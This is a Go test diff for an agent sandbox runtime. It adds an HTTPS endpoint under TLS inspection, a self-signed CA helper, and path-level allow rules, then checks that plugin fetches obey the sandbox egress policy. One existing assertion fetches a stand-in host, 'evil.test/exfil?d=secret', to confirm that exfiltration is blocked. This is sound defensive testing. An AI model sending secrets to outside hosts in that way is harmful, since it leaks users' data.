@@ -3,8 +3,16 @@ package runtime
 import (
 	"bufio"
 	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
 	"encoding/json"
+	"encoding/pem"
 	"fmt"
+	"math/big"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -174,11 +182,35 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	defer up.Close()
 	port := ln.Addr().(*net.TCPAddr).Port
 
+	// An HTTPS server the policy inspects (TLS terminated by the gateway
+	// with the launch's CA, which the plugin must trust), with a
+	// certificate for its name that the gateway trusts as the corporate CA.
+	certPEM, cert := selfSigned(t, "secure.test")
+	sln, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	secure := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain")
+		fmt.Fprint(w, "secure page "+r.URL.Path)
+	}))
+	secure.Listener.Close()
+	secure.Listener = sln
+	secure.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
+	secure.StartTLS()
+	defer secure.Close()
+	securePort := sln.Addr().(*net.TCPAddr).Port
+	caFile := filepath.Join(t.TempDir(), "corp-ca.pem")
+	if err := os.WriteFile(caFile, certPEM, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
 	home := t.TempDir()
 	lo2 := netip.MustParseAddr("127.0.0.2")
 	r, err := New(context.Background(), Options{
 		Home: home, Drivers: map[string]sandbox.Driver{"local": newFakeDriver(0)}, Executable: "/bin/true", PluginBinDir: binDir,
-		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2}, UnsafeAllowLoopback: true,
+		UpstreamCAFile: caFile,
+		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2, "secure.test": lo2}, UnsafeAllowLoopback: true,
 		Credential: func(name string) (string, error) { return "", fmt.Errorf("no credential %s", name) },
 	})
 	if err != nil {
@@ -186,7 +218,10 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	}
 	defer r.Close(context.Background())
 
-	pol := &policy.Policy{Name: "p", Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{{Host: "docs.test", Ports: []int{port}}}}}}
+	pol := &policy.Policy{Name: "p", Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{
+		{Host: "docs.test", Ports: []int{port}},
+		{Host: "secure.test", Ports: []int{securePort}, Inspect: true, Allow: []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/public/**"}}}},
+	}}}}
 	bp := &blueprints.Blueprint{
 		Sandboxes: []*blueprints.Sandbox{{Name: "s", Policy: pol}},
 		Agents:    []*blueprints.Agent{{Name: "a", Sandbox: "s", Tools: []string{"web"}}},
@@ -220,6 +255,14 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	}
 	if got := fetch(s, fmt.Sprintf("http://evil.test:%d/exfil?d=secret", port)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
 		t.Errorf("a host outside the sandbox's policy was fetched: %s", got)
+	}
+	// The inspected endpoint: the plugin trusts its launch's CA, and the
+	// policy's HTTP rules hold for its fetches as for the agent's.
+	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/public/a", securePort)); !strings.Contains(got, "secure page /public/a") || strings.HasPrefix(got, "error=true") {
+		t.Errorf("an inspected endpoint the policy allows was not fetched: %s", got)
+	}
+	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/private/b", securePort)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "secure page") {
+		t.Errorf("a path the inspected endpoint's rules do not allow was fetched: %s", got)
 	}
 
 	// The same plugin used by no agent gets an empty policy (and its own
@@ -256,4 +299,35 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	if !allow || !deny || !idleDeny {
 		t.Errorf("audit lines under the plugins' identities: allow %v, deny %v, idle deny %v:\n%s", allow, deny, idleDeny, b)
 	}
+}
+
+// selfSigned returns a self-signed certificate for host, as PEM and as a
+// tls.Certificate.
+func selfSigned(t *testing.T, host string) ([]byte, tls.Certificate) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
+		IsCA: true, BasicConstraintsValid: true,
+		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
+		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	keyDER, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, err := tls.X509KeyPair(certPEM, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return certPEM, cert
 }
